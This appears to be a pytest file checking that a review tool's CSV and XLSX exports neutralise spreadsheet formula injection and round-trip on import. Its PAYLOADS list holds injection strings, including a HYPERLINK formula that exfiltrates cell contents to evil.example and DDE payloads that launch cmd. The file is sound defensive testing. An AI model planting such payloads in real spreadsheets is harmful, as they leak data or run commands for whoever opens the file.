"""Issue 23, failure 7: no exported table holds a live formula, and re-import strips what the
export added.

Every CSV and XLSX output metasummary writes is checked with values starting with each of
OWASP's formula triggers: the records export (all, and ``--included``), the findings and the
extraction exports, the report's workbook and the simulation's order. XLSX: no cell is a
formula (no ``<f>`` element in any sheet, every text cell an explicit string); CSV: every text
cell starting with a trigger starts with an apostrophe.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from metasummary import Project, RecordData
from metasummary.models import SourceKind
from metasummary.outputs.spreadsheet import TRIGGERS, quote, unquote
from metasummary.store import records as store_records
from tests.clirunner import run
from tests.helpers import protocol_text
from tests.reportdata import CRITERIA, SOURCES, vote

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]
FIELDS = [
    {"name": "method", "type": "text"},
    {"name": "participants", "type": "integer", "allow_unspecified": True},
]


def test_quote_and_unquote_round_trip_every_text() -> None:
    for payload in [*PAYLOADS, "", "'", "''=", "plain", "a=b"]:
        assert unquote(quote(payload)) == payload
        assert not quote(payload).startswith(TRIGGERS)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab 1"), max_size=12))
def test_quote_is_reversible_and_safe(text: str) -> None:
    quoted = quote(text)
    assert unquote(quoted) == text
    assert not quoted.startswith(TRIGGERS)
    if text and not text.startswith(("'", *TRIGGERS)):
        assert quoted == text  # ordinary text is left as it is


@pytest.fixture
def hostile(make_project: Callable[..., Project]) -> Project:
    """A review whose titles, venues, authors, findings, themes and extraction values all start
    with formula triggers; every record included at full text."""
    project = make_project(
        protocol_text(
            sources=SOURCES,
            criteria=CRITERIA,
            stages=[{"code": "QA", "label": "Quality", "order": 1}],
            extraction={"fields": FIELDS},
        )
    )
    ids = project.add_records(
        "IEEE",
        [
            RecordData(
                title=payload,
                authors=[f"{payload[:6]}, Ann"],
                year=2020,
                venue=payload,
                original_key=f"key{i}",
            )
            for i, payload in enumerate(PAYLOADS)
        ],
        kind=SourceKind.LIBRARY,
    )
    synthesis = project.synthesis
    theme = synthesis.sorting.create_theme("QA", PAYLOADS[0])
    for record, payload in zip(ids, PAYLOADS, strict=True):
        vote(project, record, "title-abstract", "include")
        vote(project, record, "full-text", "include")
        finding = synthesis.findings.add(record, payload)
        synthesis.sorting.move_findings([finding.id], theme.id)
    return project


def _root(project: Project) -> Path:
    assert project.root is not None
    return project.root


def outputs(project: Project, out: Path) -> dict[str, Path]:
    """Every table the CLI writes for this review, by a name for the table in the report."""
    root = str(_root(project))
    files = {
        "export records (csv)": out / "records.csv",
        "export records --included (csv)": out / "included.csv",
        "export records (xlsx)": out / "records.xlsx",
        "export records --included (xlsx)": out / "included.xlsx",
        "findings export (csv)": out / "findings.csv",
        "findings export (xlsx)": out / "findings.xlsx",
        "extract export (csv)": out / "extraction.csv",
        "extract export (xlsx)": out / "extraction.xlsx",
    }
    for fmt in ("csv", "xlsx"):
        for flag, name in (([], "records"), (["--included"], "included")):
            done = run("-p", root, "export", "records", "--format", fmt, *flag, "--out",
                       str(out / f"{name}.{fmt}"))  # fmt: skip
            assert done.exit_code == 0, done.stderr
        for command, name in (("findings", "findings"), ("extract", "extraction")):
            done = run("-p", root, command, "export", f"--{fmt}", str(out / f"{name}.{fmt}"))
            assert done.exit_code == 0, done.stderr
    report = run("-p", root, "report", "--format", "xlsx")
    assert report.exit_code == 0, report.stderr
    files["report (xlsx)"] = _root(project) / "report" / "report.xlsx"
    return files


def csv_problems(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    return [f"{path.name}: {cell!r}" for row in rows for cell in row if cell.startswith(TRIGGERS)]


def xlsx_problems(path: Path) -> list[str]:
    problems = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                problems.append(f"{path.name}: {name} holds a formula")
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "s":
                    problems.append(f"{path.name}!{cell.coordinate}: {cell.data_type}")
    return problems


def test_no_output_holds_a_formula(hostile: Project, tmp_path: Path) -> None:
    files = outputs(hostile, tmp_path)
    problems: list[str] = []
    payload_cells = 0
    for path in files.values():
        if path.suffix == ".csv":
            problems += csv_problems(path)
            text = path.read_text(encoding="utf-8")
            payload_cells += text.count("'=HYPERLINK")
        else:
            problems += xlsx_problems(path)
            book = load_workbook(path)
            payload_cells += sum(
                1
                for sheet in book.worksheets
                for row in sheet.iter_rows(values_only=True)
                for value in row
                if isinstance(value, str) and value.startswith("=HYPERLINK")
            )
    assert problems == []
    assert payload_cells >= len(files)  # the payload reached every output, as text


def test_the_simulation_order_is_safe_too(tmp_path: Path) -> None:
    labelled = tmp_path / "labelled.csv"
    rows = [{"record_id": f"=id{i}", "title": f"title {i} learning", "abstract": "x",
             "label_included": str(i % 2)} for i in range(12)]  # fmt: skip
    with labelled.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    out = tmp_path / "order.csv"
    done = run("simulate", str(labelled), "--out", str(out), "--seed", "1")
    assert done.exit_code == 0, done.stderr
    assert csv_problems(out) == []
    assert "'=id" in out.read_text(encoding="utf-8")


def test_records_survive_export_and_import_exactly(
    hostile: Project, make_project: Callable[..., Project], tmp_path: Path
) -> None:
    out = tmp_path / "records.csv"
    assert run("-p", str(_root(hostile)), "export", "records", "--format", "csv", "--out",
               str(out)).exit_code == 0  # fmt: skip
    again = make_project(protocol_text(), name="again")
    result = again.imports.import_file(out, source="Exported")
    assert result.imported == len(PAYLOADS)
    with again.store.read() as conn:
        titles = sorted(r.data.title for r in store_records.iter_all(conn))
    assert titles == sorted(" ".join(p.split()) for p in PAYLOADS)


def test_extraction_values_survive_export_and_import_exactly(
    hostile: Project, tmp_path: Path
) -> None:
    extraction = hostile.synthesis.extraction
    papers = [p.record_id for p in extraction.papers()]
    sheet = tmp_path / "extraction.csv"
    extraction.export(sheet)
    rows = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8"), newline="")))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        row["method"] = quote(payload)  # filled in as the export writes text
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    extraction.import_file(sheet)
    values = {p.record_id: p.values["method"] for p in extraction.papers()}
    assert sorted(values[p] for p in papers) == sorted(p.strip() for p in PAYLOADS)
    # and what it exports now is quoted again, and reads back the same
    extraction.export(sheet)
    assert csv_problems(sheet) == []
    assert extraction.import_file(sheet).changed == 0
